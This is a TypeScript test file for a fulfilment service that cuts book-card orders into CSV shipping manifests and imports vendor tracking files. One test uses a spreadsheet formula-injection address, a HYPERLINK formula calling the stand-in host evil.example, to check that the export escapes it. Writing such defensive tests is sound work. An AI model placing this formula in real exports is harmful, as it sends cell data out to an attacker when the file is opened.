import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import type { Campaign } from '../src/campaigns/campaign.service.js';
import {
  cutShippingBatches,
  importShippedFile,
  listBatches,
  markBatchShipped,
  writeManifest,
} from '../src/fulfilment/shipping.service.js';
import { manifestKey } from '../src/fulfilment/manifest.js';
import { isAppError } from '../src/platform/errors.js';
import { useTestDeps } from './support/context.js';
import { buildBookCardRedemption, buildCampaign, type TestRedemption } from './support/factories.js';
import { storedBytes, storedText } from './support/stored.js';

const dataDir = mkdtempSync(path.join(os.tmpdir(), 'owabi-shipping-'));
const deps = useTestDeps({}, { DATA_DIR: dataDir });
afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

const MANIFEST_HEADER = 'batch,line,registration_code,name,postal_code,address';

async function campaignWithCards(n: number): Promise<{ campaign: Campaign; cards: TestRedemption[] }> {
  const campaign = await buildCampaign(deps);
  const cards: TestRedemption[] = [];
  for (let i = 0; i < n; i++) cards.push(await buildBookCardRedemption(deps, campaign));
  return { campaign, cards };
}

const linesOf = (campaignId: string) =>
  deps.db
    .selectFrom('shipping_lines as l')
    .innerJoin('shipping_batches as b', 'b.id', 'l.batch_id')
    .select(['l.redemption_id', 'l.batch_id', 'l.line_no', 'l.tracking_number', 'b.line_count'])
    .where('b.campaign_id', '=', campaignId)
    .orderBy('l.batch_id')
    .orderBy('l.line_no')
    .execute();

const fulfilledAt = async (redemptionId: string) =>
  (
    await deps.db
      .selectFrom('redemptions')
      .select('fulfilled_at')
      .where('id', '=', redemptionId)
      .executeTakeFirstOrThrow()
  ).fulfilled_at;

const csv = (text: string) => Readable.from([text]);

describe('cutting shipping batches', () => {
  it('when book cards are pending, then they are cut in redemption order into numbered batches with a six-column manifest', async () => {
    const campaign = await buildCampaign(deps);
    const cards = [
      await buildBookCardRedemption(deps, campaign),
      await buildBookCardRedemption(deps, campaign, {
        shipTo: { postalCode: '5300001', address: '大阪府大阪市北区梅田9-9-9 "転居先", 2F' },
      }),
      await buildBookCardRedemption(deps, campaign),
    ];

    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id, maxLinesPerBatch: 2 });

    expect(batches.map((b) => b.lines)).toEqual([2, 1]);
    const lines = await linesOf(campaign.id);
    expect(lines.map((l) => [l.redemption_id, l.batch_id, l.line_no])).toEqual([
      [cards[0]!.id, batches[0]!.id, 1],
      [cards[1]!.id, batches[0]!.id, 2],
      [cards[2]!.id, batches[1]!.id, 1],
    ]);

    const file = batches[0]!.manifestFile!;
    expect(file).toBe(manifestKey(campaign.id, campaign.slug, batches[0]!.id));
    const text = await storedText(deps.store, file, true);
    expect(text.split('\r\n')[0]).toBe(`\uFEFF${MANIFEST_HEADER}`);
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toEqual([
      {
        batch: batches[0]!.id,
        line: '1',
        registration_code: cards[0]!.customer.registrationCode,
        name: cards[0]!.customer.fullName,
        postal_code: '1000004',
        address: '東京都千代田区大手町1-1-1',
      },
      {
        batch: batches[0]!.id,
        line: '2',
        registration_code: cards[1]!.customer.registrationCode,
        name: cards[1]!.customer.fullName,
        postal_code: '5300001',
        address: '大阪府大阪市北区梅田9-9-9 "転居先", 2F',
      },
    ]);
    // Nothing beyond the six columns: no phone, no household, no login data.
    expect(text).not.toContain('03-1234-5678');
    expect(text).not.toContain('試験 太郎');

    const listed = await listBatches(deps.db, campaign.id);
    expect(listed.map((b) => [b.id, b.lineCount, b.manifestFile, b.shippedAt])).toEqual(
      batches.map((b) => [b.id, b.lines, b.manifestFile, null]),
    );
  });

  it('when a customer has no personal data any more, then their card is not cut', async () => {
    const campaign = await buildCampaign(deps);
    const kept = await buildBookCardRedemption(deps, campaign);
    const erased = await buildBookCardRedemption(deps, campaign, { erased: true });

    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });

    expect(batches).toHaveLength(1);
    expect((await linesOf(campaign.id)).map((l) => l.redemption_id)).toEqual([kept.id]);
    expect((await linesOf(campaign.id)).map((l) => l.redemption_id)).not.toContain(erased.id);
  });

  it('when everything is already cut, then a second run cuts nothing', async () => {
    const { campaign } = await campaignWithCards(2);
    await cutShippingBatches(deps, { campaignId: campaign.id });

    const again = await cutShippingBatches(deps, { campaignId: campaign.id });

    expect(again.batches).toEqual([]);
    expect(await linesOf(campaign.id)).toHaveLength(2);
  });

  it('when two cuts run at once, then every card is in exactly one batch and batches are numbered 1..n', async () => {
    const { campaign, cards } = await campaignWithCards(25);

    const runs = await Promise.all([
      cutShippingBatches(deps, { campaignId: campaign.id, maxLinesPerBatch: 4 }),
      cutShippingBatches(deps, { campaignId: campaign.id, maxLinesPerBatch: 4 }),
    ]);

    const lines = await linesOf(campaign.id);
    expect(lines.map((l) => l.redemption_id).sort()).toEqual(cards.map((c) => c.id).sort());
    expect(runs.flatMap((r) => r.batches).reduce((n, b) => n + b.lines, 0)).toBe(25);
    const byBatch = new Map<string, typeof lines>();
    for (const l of lines) byBatch.set(l.batch_id, [...(byBatch.get(l.batch_id) ?? []), l]);
    for (const batchLines of byBatch.values()) {
      expect(batchLines.map((l) => l.line_no)).toEqual(batchLines.map((_, i) => i + 1));
      expect(batchLines[0]!.line_count).toBe(batchLines.length);
    }
    for (const b of runs.flatMap((r) => r.batches))
      expect(await deps.store.exists(b.manifestFile!)).toBe(true);
  });

  it('when a manifest was lost after its batch committed, then writeManifest and the next cut write it again', async () => {
    const { campaign } = await campaignWithCards(2);
    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });
    const file = batches[0]!.manifestFile!;
    const original = await storedText(deps.store, file, true);

    await deps.store.delete(file);
    expect(await writeManifest(deps, batches[0]!.id)).toBe(file);
    expect(await storedText(deps.store, file, true)).toBe(original);

    // As if the process died between the commit and the file.
    await deps.store.delete(file);
    await deps.db
      .updateTable('shipping_batches')
      .set({ manifest_file: null })
      .where('id', '=', batches[0]!.id)
      .execute();
    await cutShippingBatches(deps, { campaignId: campaign.id });
    expect(await storedText(deps.store, file, true)).toBe(original);
  });
});

describe('marking a batch shipped', () => {
  it('when a batch is marked shipped, then its cards are fulfilled and the manifest is deleted, and repeating it changes nothing', async () => {
    const { campaign, cards } = await campaignWithCards(3);
    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });
    const batch = batches[0]!;
    const at = new Date('2026-12-01T03:00:00Z');

    const first = await markBatchShipped(deps, batch.id, at);

    expect(first).toEqual({ batchId: batch.id, fulfilled: 3, shippedAt: at });
    for (const c of cards) expect(await fulfilledAt(c.id)).toEqual(at);
    expect(await deps.store.exists(batch.manifestFile!)).toBe(false);

    const second = await markBatchShipped(deps, batch.id, new Date('2026-12-02T03:00:00Z'));
    expect(second).toEqual({ batchId: batch.id, fulfilled: 0, shippedAt: at });
    for (const c of cards) expect(await fulfilledAt(c.id)).toEqual(at);

    // A shipped batch's personal data is not written out again.
    expect(await writeManifest(deps, batch.id)).toBeNull();
    expect(await deps.store.exists(batch.manifestFile!)).toBe(false);
  });

  it('when the batch does not exist, then marking it fails with not found', async () => {
    await expect(markBatchShipped(deps, '999999999')).rejects.toMatchObject({ code: 'not_found' });
  });
});

describe('importing the vendor shipped file', () => {
  it('when rows are good, bad or unknown, then good rows are applied and bad ones reported by file line', async () => {
    const { campaign, cards } = await campaignWithCards(3);
    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });
    const b = batches[0]!.id;
    const file = [
      'batch,line,tracking_number',
      `${b},1,1234-5678-9012`,
      `${b},2,not a number!`,
      `${b},99,5555`,
      `${b},x,5555`,
      `${b},2`,
      '',
      `"${b}","2","2222-0000"`,
      `${b},1,9999-9999`,
    ].join('\r\n');

    const result = await importShippedFile(deps, csv(file));

    expect(result.updated).toBe(2);
    expect(result.badRows.map((r) => r.line)).toEqual([3, 4, 5, 6, 9]);
    expect(result.badRows[1]!.message).toBe('no such batch and line');
    expect(result.shippedBatches).toEqual([]);
    const lines = await linesOf(campaign.id);
    expect(lines.map((l) => l.tracking_number)).toEqual(['1234-5678-9012', '2222-0000', null]);
    expect(await fulfilledAt(cards[0]!.id)).not.toBeNull();
    expect(await fulfilledAt(cards[1]!.id)).not.toBeNull();
    expect(await fulfilledAt(cards[2]!.id)).toBeNull();
    expect(await deps.store.exists(batches[0]!.manifestFile!)).toBe(true);
  });

  it('when the last line of a batch is shipped, then the batch is marked shipped and its manifest deleted; importing again changes nothing', async () => {
    const { campaign, cards } = await campaignWithCards(2);
    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });
    const b = batches[0]!.id;
    const file = `batch,line,tracking_number\n${b},1,AAA-1\n${b},2,AAA-2\n`;

    const first = await importShippedFile(deps, csv(file));

    expect(first).toEqual({ updated: 2, badRows: [], shippedBatches: [b] });
    const [batch] = await listBatches(deps.db, campaign.id);
    expect(batch!.shippedAt).not.toBeNull();
    expect(await deps.store.exists(batches[0]!.manifestFile!)).toBe(false);
    const fulfilled = await Promise.all(cards.map((c) => fulfilledAt(c.id)));
    expect(fulfilled.every((f) => f !== null)).toBe(true);

    const again = await importShippedFile(deps, csv(file));

    expect(again).toEqual({ updated: 0, badRows: [], shippedBatches: [] });
    expect(await Promise.all(cards.map((c) => fulfilledAt(c.id)))).toEqual(fulfilled);
    expect((await listBatches(deps.db, campaign.id))[0]!.shippedAt).toEqual(batch!.shippedAt);
  });

  it('when the header is not batch,line,tracking_number, then nothing is imported', async () => {
    const { campaign } = await campaignWithCards(1);
    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });

    const err = await importShippedFile(
      deps,
      csv(`line,batch,tracking_number\n1,${batches[0]!.id},X1\n`),
    ).catch((e: unknown) => e);

    expect(isAppError(err) && err.code).toBe('validation');
    expect((await linesOf(campaign.id))[0]!.tracking_number).toBeNull();
  });
});

describe('the manifest, opened in a spreadsheet', () => {
  it('when a customer typed an address or name that looks like a formula, then the manifest starts with the BOM and shows it as text', async () => {
    const campaign = await buildCampaign(deps);
    const evil = '=HYPERLINK("http://evil.example/?q="&B2,"配達先")';
    const card = await buildBookCardRedemption(deps, campaign, {
      shipTo: { postalCode: '5300001', address: evil },
    });
    await deps.db
      .updateTable('customer_personal')
      .set({ full_name: '@SUM(1+1)' })
      .where('customer_id', '=', card.customer.id)
      .execute();

    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });

    const bytes = await storedBytes(deps.store, batches[0]!.manifestFile!, true);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [row] = parse(bytes, { columns: true, bom: true }) as Record<string, string>[];
    expect(row).toMatchObject({ name: "'@SUM(1+1)", postal_code: '5300001', address: `'${evil}` });
    expect(row!.batch).toBe(batches[0]!.id); // machine columns are never guarded
  });

  it("when the vendor sends the shipped file back with a BOM (Excel's CSV UTF-8), then it imports", async () => {
    const { campaign } = await campaignWithCards(1);
    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });
    const file = `\uFEFFbatch,line,tracking_number\r\n${batches[0]!.id},1,BOM-1\r\n`;

    const result = await importShippedFile(deps, csv(file));

    expect(result).toEqual({ updated: 1, badRows: [], shippedBatches: [batches[0]!.id] });
  });
});
